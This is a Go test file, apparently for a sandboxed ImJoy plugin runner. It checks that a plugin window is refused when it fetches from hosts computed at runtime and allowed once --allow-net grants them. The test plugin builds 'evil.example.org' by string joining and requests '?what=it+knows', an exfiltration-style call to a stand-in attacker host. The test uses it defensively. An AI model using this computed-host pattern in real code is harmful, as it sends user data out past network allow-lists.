package main

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

// A window loads from hosts that it names, and that what it loaded names. An address that
// it computes could carry something away: it is refused, by name, until it is granted.
func TestWindowsLoadFromNamedHosts(t *testing.T) {
	needsLong(t)
	needsChromium(t)
	var asked atomic.Int32
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/evil") {
			asked.Add(1)
		}
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = w.Write([]byte(`/* see https://further.example.org/ */ "` + r.URL.Path + `"`))
	}))
	defer s.Close()
	m := newMachine(t)
	var mirrors []string
	for _, name := range []string{"named", "further", "evil"} {
		mirrors = append(mirrors, "https://"+name+".example.org="+s.URL+"/"+name)
	}
	m.env["IMJOY_MIRRORS"] = strings.Join(mirrors, ",")
	m.write("loads.imjoy.html", windowPlugin("Loads", "", `const get = async (url) => { const r = await fetch(url); return r.status + " " + (await r.text()) };
api.export({setup() {}, async run() {
  const host = (name) => "https://" + name + "." + ["example", "org"].join(".") + "/";
  return [await get(host("further") + "1"), await get("https://named.example.org/2"), await get(host("further") + "3"), await get(host("evil") + "?what=it+knows")].join("\n");
}});`))
	code, out, said := m.imjoy("run", "loads.imjoy.html", "--headless")
	refused := `403 nothing of plugin "Loads" names HOST.example.org; --allow-net=HOST.example.org lets it load from there`
	for _, want := range []string{strings.ReplaceAll(refused, "HOST", "further"), "/named/2", "/further/3", strings.ReplaceAll(refused, "HOST", "evil")} {
		if code != exitFine || !strings.Contains(out, want) && !strings.Contains(strings.ReplaceAll(out, `\"`, `"`), want) {
			t.Errorf("exit code %d, without %s: %s%s", code, want, out, said)
		}
	}
	if asked.Load() != 0 {
		t.Error("the computed host was asked")
	}
	if _, out, said = m.imjoy("run", "loads.imjoy.html", "--headless", "--allow-net=evil.example.org"); asked.Load() != 1 || !strings.Contains(out, "/evil/") {
		t.Errorf("with its grant %d requests: %s%s", asked.Load(), out, said)
	}
}
